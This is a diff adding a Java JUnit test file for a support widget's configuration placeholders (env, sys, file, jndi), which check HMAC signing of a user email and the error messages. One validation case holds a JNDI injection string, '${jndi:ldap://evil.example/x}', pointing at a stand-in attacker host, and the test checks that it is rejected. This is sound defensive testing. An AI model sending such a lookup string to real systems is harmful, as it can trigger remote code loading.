@@ -1,0 +1,218 @@
+package org.supportwidget.config;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import java.io.IOException;
+import java.nio.charset.StandardCharsets;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.util.HashMap;
+import java.util.List;
+import java.util.Map;
+import javax.naming.Context;
+import javax.naming.InitialContext;
+import javax.naming.NamingException;
+import org.junit.jupiter.api.AfterEach;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.CsvSource;
+import org.junit.jupiter.params.provider.ValueSource;
+import org.supportwidget.ConfigurationException;
+import org.supportwidget.Engines;
+import org.supportwidget.UserRequest;
+
+/** {@code ${…}} in values; each test looks at what a secret so written signs. */
+class PlaceholdersTest {
+    private static final String SECRET = "thread-portal-authentication-secret";
+
+    // printf %s john.doe@acme.com | openssl dgst -sha256 -hmac thread-portal-authentication-secret
+    private static final String SIGNED =
+            "d34737ca395bde26c67b3c33cdca0f26b2ccd4d53a5ba089466a96481ec168e5";
+    private static final String PROPERTY = "support-widget-test.secret";
+
+    private final Map<String, String> environment = new HashMap<>();
+
+    @AfterEach
+    void clear() {
+        System.clearProperty(PROPERTY);
+    }
+
+    @Test
+    void env_stands_for_an_environment_variable() {
+        environment.put("THREAD_SECRET", SECRET);
+
+        assertThat(signed("${env:THREAD_SECRET}")).isEqualTo(SIGNED);
+    }
+
+    @Test
+    void sys_stands_for_a_system_property() {
+        System.setProperty(PROPERTY, SECRET);
+
+        assertThat(signed("${sys:" + PROPERTY + "}")).isEqualTo(SIGNED);
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"", "\n", "\r\n"})
+    void file_stands_for_a_files_text_without_one_newline_at_the_end(
+            String end, @TempDir Path folder) throws IOException {
+        Path file = Files.writeString(folder.resolve("secret"), SECRET + end);
+
+        assertThat(signed("${file:" + file + "}")).isEqualTo(SIGNED);
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"\n\n", " ", " \n", "\t"})
+    void file_keeps_all_else(String end, @TempDir Path folder) throws IOException {
+        Path file = Files.writeString(folder.resolve("secret"), SECRET + end);
+
+        assertThat(signed("${file:" + file + "}")).isNotEqualTo(SIGNED);
+    }
+
+    @Test
+    @SuppressWarnings("BanJNDI") // its use is what is tested
+    void jndi_stands_for_an_entry_of_the_containers() throws NamingException {
+        Context comp = (Context) new InitialContext().lookup("java:comp");
+        Context env = comp.createSubcontext("env");
+        try {
+            env.bind("threadSecret", SECRET);
+
+            assertThat(signed("${jndi:java:comp/env/threadSecret}")).isEqualTo(SIGNED);
+        } finally {
+            comp.destroySubcontext("env");
+        }
+    }
+
+    @Test
+    void may_be_a_part_of_a_value_and_stand_there_twice() {
+        environment.put("A", "thread");
+        environment.put("B", "-");
+
+        assertThat(signed("${env:A}${env:B}portal${env:B}authentication-secret")).isEqualTo(SIGNED);
+    }
+
+    @Test
+    void what_it_stands_for_is_not_looked_at_again() {
+        environment.put("A", "${env:B}");
+        environment.put("B", SECRET);
+
+        assertThat(signed("${env:A}")).isNotEqualTo(SIGNED);
+    }
+
+    @Test
+    void what_it_stands_for_may_hold_dollars_and_backslashes() {
+        environment.put("A", "$1\\$0");
+
+        // printf %s john.doe@acme.com | openssl dgst -sha256 -hmac '$1\$0'
+        assertThat(signed("${env:A}"))
+                .isEqualTo("10bec54a16bac50b90ac9df59f4959bcdbbdeb9463c7200b57084190d1bb6dec");
+    }
+
+    @ParameterizedTest
+    @CsvSource(
+            delimiter = '|',
+            value = {
+                "${env:NOT_SET} | the environment variable NOT_SET is not set",
+                "${sys:not.set} | the system property not.set is not set",
+                "${file:/no/such/file} | the file /no/such/file cannot be read"
+                        + " (NoSuchFileException)",
+                "${file:} | the file  cannot be read (IOException)",
+                "${jndi:java:comp/env/none} | the JNDI name java:comp/env/none is not bound",
+                "${jndi:ldap://evil.example/x} | the JNDI name ldap://evil.example/x does not begin"
+                        + " with java:",
+                "${THREAD_SECRET} | '${THREAD_SECRET}' is none of ${env:NAME}, ${sys:name},"
+                        + " ${file:/path}, ${jndi:java:name}",
+                "${evn:X} | '${evn:X}' is none of ${env:NAME}, ${sys:name}, ${file:/path},"
+                        + " ${jndi:java:name}"
+            })
+    void says_which_one_stands_for_nothing(String value, String reason) {
+        assertThat(mistakes("thread.secret", value))
+                .containsExactly(
+                        "thread.secret: "
+                                + reason
+                                + " (set it, or change the value in test.properties)");
+    }
+
+    @Test
+    void a_file_that_is_not_in_utf8_cannot_be_read(@TempDir Path folder) throws IOException {
+        Path file = folder.resolve("secret");
+        Files.write(file, "caf\u00e9".getBytes(StandardCharsets.ISO_8859_1));
+
+        assertThat(mistakes("thread.secret", "${file:" + file + "}"))
+                .containsExactly(
+                        "thread.secret: the file "
+                                + file
+                                + " cannot be read (MalformedInputException) (set it, or change the"
+                                + " value in test.properties)");
+    }
+
+    @Test
+    void a_blank_file_is_a_blank_secret(@TempDir Path folder) throws IOException {
+        Path file = Files.writeString(folder.resolve("secret"), "\n");
+
+        assertThat(mistakes("thread.secret", "${file:" + file + "}"))
+                .containsExactly(
+                        "thread.secret: found a blank value, expected the secret that thread shows"
+                                + " for identity verification, e.g. ${env:NAME} (set it in"
+                                + " test.properties)");
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "vendors",
+                "thread.app-id",
+                "thread.script",
+                "thread.anonymous",
+                "thread.csp.script-src",
+                "thread.sekret",
+                "identity.email",
+                "identity.resolver",
+                "logout.paths",
+                "logout.page",
+                "token.path",
+                "token.cors.origins",
+                "csp.mode",
+                "cache.guard",
+                "on-error",
+                "session-end.unmarked"
+            })
+    void a_secret_on_the_wrong_key_is_in_no_message(String key) {
+        environment.put("SECRET", "s3cr3t _value;");
+
+        assertThat(String.join("\n", mistakes(key, "${env:SECRET}")))
+                .startsWith(key + ": ")
+                .doesNotContain("s3cr3t", "_value");
+    }
+
+    private Configuration configuration(String key, String value) {
+        Map<String, String> values =
+                Engines.values(
+                        """
+                        vendors = thread
+                        identity.email = session.user.email
+                        thread.app-id = app
+                        thread.secret = secret
+                        """);
+        values.put(key, value);
+        return new Configuration(
+                new ConfigurationFile("test.properties", values), environment::get);
+    }
+
+    private String signed(String secret) {
+        return configuration("thread.secret", secret)
+                .supportWidget()
+                .page(UserRequest.of(Map.of("email", "john.doe@acme.com")))
+                .getVerification()
+                .getOrDefault("thread", "");
+    }
+
+    private List<String> mistakes(String key, String value) {
+        try {
+            configuration(key, value).supportWidget();
+            return List.of();
+        } catch (ConfigurationException e) {
+            return e.mistakes();
+        }
+    }
+}
